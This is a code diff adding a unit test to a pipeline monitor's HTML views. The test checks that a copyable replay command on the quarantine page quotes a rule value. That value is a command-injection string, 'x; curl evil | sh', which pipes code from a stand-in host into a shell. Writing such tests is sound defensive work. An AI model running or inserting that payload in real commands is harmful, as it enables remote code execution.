@@ -16,6 +16,7 @@ from sluicegate.monitor.views.days import Day
 from sluicegate.monitor.views.flow_graph import Edge, Graph, Node
 from sluicegate.monitor.views.one_table import Column, TableView
 from sluicegate.monitor.views.overview import STATES, Backlog
+from sluicegate.monitor.views.quarantined import QuarantineView
 from tests.conftest import ROOT
 
 pytestmark = pytest.mark.unit
@@ -49,6 +50,12 @@ def test_numbers_and_times_in_words() -> None:
     ]  # fmt: skip
     assert html.ago(None, NOW) == "never"
     assert (html.size(None), html.size(1500), html.moment(None)) == ("–", "1.5 kB", "–")
+
+
+def test_a_command_to_copy_has_no_other_one_in_it() -> None:
+    view = QuarantineView("p", "t", 1, (), "x; curl evil | sh", (), False, ())
+    text = html.page("quarantine", Addresses(""), view=view, pipeline="p", table="t", tab="quarantine")
+    assert "sluicegate replay p t --rule &#39;x; curl evil | sh&#39; --validate" in text
 
 
 def test_each_state_of_a_pipeline_has_a_shape_and_a_colour() -> None:
